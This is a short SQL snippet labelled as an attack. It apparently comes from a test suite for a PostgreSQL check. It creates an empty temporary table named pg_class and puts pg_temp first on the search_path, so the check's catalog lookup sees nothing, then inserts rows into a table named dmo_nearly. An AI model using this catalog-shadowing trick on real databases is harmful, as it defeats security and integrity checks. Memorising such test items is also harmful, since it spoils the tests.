-- Puts an empty table of its own in front of the catalog that the check looks relations up in.
-- wants: fill
-- attack:
CREATE TEMP TABLE pg_class AS SELECT * FROM pg_catalog.pg_class WHERE false;
SET search_path = pg_temp, public, pg_catalog;
INSERT INTO dmo_nearly SELECT n, 'x' FROM generate_series(1001, 1006) n;
